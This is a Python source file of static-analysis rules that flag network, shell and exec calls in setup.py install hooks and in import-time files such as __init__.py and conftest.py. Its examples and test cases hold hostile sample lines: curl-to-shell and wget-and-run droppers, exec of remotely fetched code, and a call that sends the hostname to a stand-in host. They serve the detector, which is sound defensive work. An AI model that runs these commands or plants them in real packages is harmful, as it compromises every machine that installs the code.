"""Install-time and import-time side effects (DS16x).

`pip install` runs `setup.py` and any command class it registers; `import pkg` runs
`pkg/__init__.py`; Python runs `sitecustomize.py` at start-up and pytest imports `conftest.py`.
Network, process and exec calls there happen on every machine that merely installs or imports
the code, before anyone calls a single function: the favourite hook of malicious packages.
"""

from __future__ import annotations

import re
from pathlib import PurePosixPath

import libcst as cst

from analyzer.engines.cst.rules._support import (
    ScopedRule,
    arg,
    call_kinds,
    call_name,
    calls_in,
    const_str,
    is_network,
    is_process,
    qualified,
    source_of,
    walk,
)
from analyzer.findings import Confidence, Severity

_INSTALL_BASES = re.compile(
    r"(^|\.)(install|install_lib|install_scripts|install_data|install_egg_info|develop|egg_info|easy_install|bdist_egg)$"
)
_SHELL_FLAGS = re.compile(r"^(-c|/c|-Command|-EncodedCommand|-e)$", re.IGNORECASE)
_IMPORT_TIME_FILES = frozenset({"__init__.py", "sitecustomize.py", "usercustomize.py", "conftest.py"})


def _basename(path: str) -> str:
    return PurePosixPath(path.replace("\\", "/")).name


def _is_setup_script(module: cst.Module, aliases: dict[str, str]) -> bool:
    """A module that calls setuptools'/distutils' `setup()` at module level (whatever the file is called)."""
    return any(
        call_name(call, aliases) in ("setuptools.setup", "distutils.core.setup")
        for statement in module.body
        if not isinstance(statement, (cst.FunctionDef, cst.ClassDef))
        for call in calls_in(statement)
    )


def _is_main_guard(node: cst.If) -> bool:
    test = node.test  # only `a == b` can read `__name__=="__main__"` (rendering every test was slow)
    if not (isinstance(test, cst.Comparison) and len(test.comparisons) == 1
            and isinstance(test.comparisons[0].operator, cst.Equal)):
        return False
    text = source_of(test).replace("'", '"').replace(" ", "")
    return text in ('__name__=="__main__"', '"__main__"==__name__')


def _is_shell_form(call: cst.Call, name: str) -> bool:
    """A command handed to a shell: os.system/popen, shell=True, or `sh -c …` style argument lists."""
    if name in ("os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput",
                "asyncio.create_subprocess_shell", "commands.getoutput"):
        return True
    shell = arg(call, 99, "shell")
    if shell is not None and not (isinstance(shell, cst.Name) and shell.value in ("False", "None")):
        return True
    first = arg(call, 0, "args")
    if isinstance(first, (cst.List, cst.Tuple)):
        return any(_SHELL_FLAGS.match(const_str(el.value) or "") for el in first.elements[1:3])
    return False


class _SetupScriptRule(ScopedRule):
    """Knows whether the module is a setup script and whether we are inside an install command class.

    Code under `if sys.argv[...] == "publish":` (or any test of `sys.argv`) runs only when a
    maintainer asks for it on the command line, not when pip installs or builds the package.
    """

    def visit_Module(self, node: cst.Module) -> None:
        super().visit_Module(node)
        self._active = _is_setup_script(node, self.aliases)
        self._install_classes = 0
        self._argv_guards = 0

    def visit_If(self, node: cst.If) -> None:
        self._argv_guards += self._tests_argv(node)

    def leave_If(self, original_node: cst.If) -> None:
        self._argv_guards -= self._tests_argv(original_node)

    def _tests_argv(self, node: cst.If) -> bool:
        return any(qualified(n, self.aliases) == "sys.argv" for n in walk(node.test) if isinstance(n, cst.Attribute))

    def _is_install_command(self, node: cst.ClassDef) -> bool:
        return any(_INSTALL_BASES.search(qualified(b.value, self.aliases) or "") for b in node.bases)

    def visit_ClassDef(self, node: cst.ClassDef) -> None:
        self._install_classes += self._is_install_command(node)

    def leave_ClassDef(self, original_node: cst.ClassDef) -> None:
        self._install_classes -= self._is_install_command(original_node)


class SetupCmdclassRunsCommands(_SetupScriptRule):
    TRIGGER = re.compile(r"\bsetup\b")
    TRIGGER_WORDS = ("setup",)
    id = "DS160"
    name = "setup-install-command-runs-code"
    severity = Severity.ERROR
    confidence = Confidence.MEDIUM
    cwe = (506, 829)
    security_severity = "8.1"
    summary = "A setup.py command class overriding install/develop/egg_info runs processes, network calls or exec."
    what = (
        "In setup scripts (modules calling setuptools' or distutils' `setup()`), reports calls to processes (`subprocess`, `os.system`…), the network "
        "(requests, urllib, sockets) or `exec`/`eval` inside classes that subclass setuptools' or "
        "distutils' `install`, `develop`, `egg_info`, `install_*`, `easy_install` or `bdist_egg` "
        "commands, i.e. code that `pip install` runs on the installing machine."
    )
    why = (
        "A custom install command runs with the installing user's rights on every machine that "
        "installs the package, including CI runners holding deployment secrets, and nobody reads it "
        "before installing. Droppers in malicious packages live exactly here."
    )
    fix = "Do the work at build time in a build backend, or in an explicit command the user runs after installing."
    example = (
        "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n\n"
        "class PostInstall(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        "        os.system('curl -s https://x.example/i.sh | sh')\n\n"
        "setup(name='pkg', cmdclass={'install': PostInstall})\n"
    )
    use_instead = (
        "from setuptools import setup\n\n"
        "setup(name='pkg', entry_points={'console_scripts': ['pkg-setup = pkg.setup_tool:main']})\n"
    )
    references = ("https://attack.mitre.org/techniques/T1195/001/",)

    VALID = (
        # a build_ext override that compiles: not an install hook, and not in a class we watch
        "# setup.py\nfrom setuptools import setup\nfrom setuptools.command.build_ext import build_ext\n"
        "import subprocess\n\n"
        "class CMakeBuild(build_ext):\n"
        "    def run(self):\n"
        "        subprocess.check_call(['cmake', '--build', '.'])\n\n"
        "setup(name='fastlib', cmdclass={'build_ext': CMakeBuild})\n",
        # an install override that only copies package data
        "# setup.py\nfrom setuptools import setup\nfrom setuptools.command.install import install\nimport shutil\n\n"
        "class InstallWithData(install):\n"
        "    def run(self):\n"
        "        super().run()\n"
        "        shutil.copy('data/defaults.toml', self.install_lib)\n\n"
        "setup(name='pkg', cmdclass={'install': InstallWithData})\n",
    )
    INVALID = (
        "# setup.py\nimport os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n"
        "class PostInstallCommand(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        "        # ruleid: setup-install-command-runs-code\n"
        "        os.system('curl -fsSL https://telemetry.example.com/i.sh | sh')\n\n"
        "setup(name='helper', cmdclass={'install': PostInstallCommand})\n",
        "# setup.py\nimport urllib.request\nfrom setuptools import setup\n"
        "from setuptools.command.develop import develop as _develop\n\n"
        "class Develop(_develop):\n"
        "    def run(self):\n"
        "        # ruleid: setup-install-command-runs-code\n"
        "        exec(urllib.request.urlopen('https://x.example/bootstrap.py').read())\n"
        "        super().run()\n\n"
        "setup(name='helper', cmdclass={'develop': Develop})\n",
    )

    def visit_Call(self, node: cst.Call) -> None:
        if not (self._active and self._install_classes):
            return
        kinds = call_kinds(node, self.aliases, self.bindings) & {"network", "process", "exec"}
        if kinds:
            self.report(node, f"`pip install` runs this {'/'.join(sorted(kinds))} call on every installing machine.")


class SetupScriptSideEffect(_SetupScriptRule):
    TRIGGER = re.compile(r"\bsetup\b")
    TRIGGER_WORDS = ("setup",)
    id = "DS161"
    name = "setup-script-network-or-shell-call"
    severity = Severity.ERROR
    confidence = Confidence.MEDIUM
    cwe = (506, 829)
    security_severity = "7.8"
    summary = "setup.py makes network calls or runs shell commands while it is being installed or built."
    what = (
        "In setup scripts (modules calling `setup()`), outside the install command classes that DS160 covers, reports network calls "
        "(requests, httpx, urllib, sockets, FTP, SMTP) and commands handed to a shell (`os.system`, "
        "`os.popen`, `shell=True`, `sh -c …`). Argument-list commands such as `git describe` are "
        "not reported."
    )
    why = (
        "`pip install`, `pip download` and every build run `setup.py`. A download or a shell command "
        "there runs on developer laptops and CI runners alike, before any code is reviewed or "
        "imported, and with whatever secrets the environment holds."
    )
    fix = "Declare build requirements in pyproject.toml and vendor data into the sdist; run no shell at install time."
    example = (
        "import os\nfrom setuptools import setup\n"
        "os.system('curl -s https://x.example/collect?h=$(hostname)')\n"
        "setup(name='pkg')\n"
    )
    use_instead = (
        "from setuptools import setup\n"
        "setup(name='pkg')  # metadata only; anything else belongs to an explicit command\n"
    )
    references = ("https://attack.mitre.org/techniques/T1195/001/",)

    VALID = (
        "# setup.py\nimport os, sys\nfrom setuptools import setup\n"
        "if sys.argv[-1] == 'publish':\n"
        "    os.system('python setup.py sdist bdist_wheel && twine upload dist/*')\n"
        "    sys.exit()\n"
        "setup(name='pkg')\n",
        "# setup.py\nimport subprocess\nfrom setuptools import setup\n\n"
        "def version():\n"
        "    return subprocess.check_output(['git', 'describe', '--tags'], text=True).strip()\n\n"
        "setup(name='pkg', version=version())\n",
        "# setup.py\nfrom pathlib import Path\nfrom setuptools import setup\n"
        "setup(name='pkg', long_description=Path('README.md').read_text())\n",
    )
    INVALID = (
        "# setup.py\nimport requests, platform\nfrom setuptools import setup\n"
        "# ruleid: setup-script-network-or-shell-call\n"
        "requests.post('https://stats.example.com/i', json={'os': platform.platform()})\n"
        "setup(name='pkg')\n",
        "# setup.py\nimport subprocess\nfrom setuptools import setup\n"
        "# ruleid: setup-script-network-or-shell-call\n"
        "subprocess.call('wget -q https://x.example/bin -O /tmp/.b && chmod +x /tmp/.b && /tmp/.b', shell=True)\n"
        "setup(name='pkg')\n",
    )

    def visit_Call(self, node: cst.Call) -> None:
        if not self._active or self._install_classes or self._argv_guards:
            return
        name = call_name(node, self.aliases)
        if is_network(name):
            self.report(node, "setup.py makes a network call: it runs on every machine that installs or builds the package.")
        elif is_process(name) and _is_shell_form(node, name):
            self.report(node, "setup.py hands a command to a shell: it runs on every machine that installs or builds the package.")


class ImportTimeSideEffect(ScopedRule):
    TRIGGER = re.compile(r"(?i)requests|urllib|http|socket|subprocess|system|popen|exec|eval|spawn|compile")
    TRIGGER_WORDS = ("requests", "urllib", "http", "socket", "subprocess", "system", "popen", "exec", "eval", "spawn", "compile")
    id = "DS162"
    name = "import-time-network-or-process-call"
    severity = Severity.ERROR
    confidence = Confidence.MEDIUM
    cwe = (506,)
    security_severity = "7.8"
    summary = "A package __init__.py, conftest.py or sitecustomize.py makes network, process or exec calls at import time."
    what = (
        "Reports network calls, process launches and `exec`/`eval`/`compile` that run at import "
        "time (module level, class bodies, module-level `if`/`try`/`with` blocks; not function "
        "bodies, not `if __name__ == '__main__'`) in `__init__.py`, `conftest.py`, "
        "`sitecustomize.py` and `usercustomize.py`: files that are run merely by importing the "
        "package, starting pytest or starting Python."
    )
    why = (
        "Importing a package should define things, not do things. A network call or a process "
        "launched by `import pkg` runs in every program, test run and IDE indexer that touches the "
        "package, before any of its functions are called: the classic trigger of malicious packages."
    )
    fix = "Move the call into a function that the application calls explicitly."
    example = (
        "# mypkg/__init__.py\nimport subprocess\n"
        "subprocess.Popen(['python3', '-c', 'import mypkg._agent'])\n"
    )
    use_instead = (
        "# mypkg/__init__.py\nfrom mypkg._agent import start_agent  # the application decides when to call it\n"
    )
    references = ("https://attack.mitre.org/techniques/T1195/001/",)

    # Cases: rulesets/cst/import-time-network-or-process-call/ (the file names are what matters).

    def visit_Module(self, node: cst.Module) -> None:
        super().visit_Module(node)
        name = _basename(self.context.path)
        self._active = name in _IMPORT_TIME_FILES
        self._depth = 0

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        super().visit_FunctionDef(node)
        self._depth += 1

    def leave_FunctionDef(self, original_node: cst.FunctionDef) -> None:
        super().leave_FunctionDef(original_node)
        self._depth -= 1

    def visit_Lambda(self, node: cst.Lambda) -> None:
        self._depth += 1

    def leave_Lambda(self, original_node: cst.Lambda) -> None:
        self._depth -= 1

    def visit_If(self, node: cst.If) -> None:
        if _is_main_guard(node):
            self._depth += 1

    def leave_If(self, original_node: cst.If) -> None:
        if _is_main_guard(original_node):
            self._depth -= 1

    def visit_Call(self, node: cst.Call) -> None:
        if not self._active or self._depth:
            return
        kinds = call_kinds(node, self.aliases, self.bindings) & {"network", "process", "exec"}
        if kinds:
            self.report(node, f"Importing this module runs a {'/'.join(sorted(kinds))} call.")
